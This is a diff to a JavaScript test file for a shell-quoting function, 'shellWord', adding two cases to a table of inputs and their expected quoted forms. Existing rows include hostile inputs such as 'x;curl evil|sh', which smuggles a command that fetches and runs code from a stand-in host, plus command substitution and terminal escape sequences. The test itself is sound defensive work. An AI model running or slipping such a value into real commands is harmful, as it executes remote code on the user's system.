@@ -10,6 +10,8 @@ describe('shellWord', () => {
     ['x;curl evil|sh', "'x;curl evil|sh'"],
     ["it's $(here) `too`", "'it'\\''s $(here) `too`'"],
     ['', "''"],
+    ['=curl', "'=curl'"],
+    ['a=b', 'a=b'],
     ['a\u202eb', "$'a\\u202eb'"],
     ['a\u001b[31m\n', "$'a\\u001b[31m\\u000a'"],
     ["\u200b'\\", "$'\\u200b\\'\\\\'"],
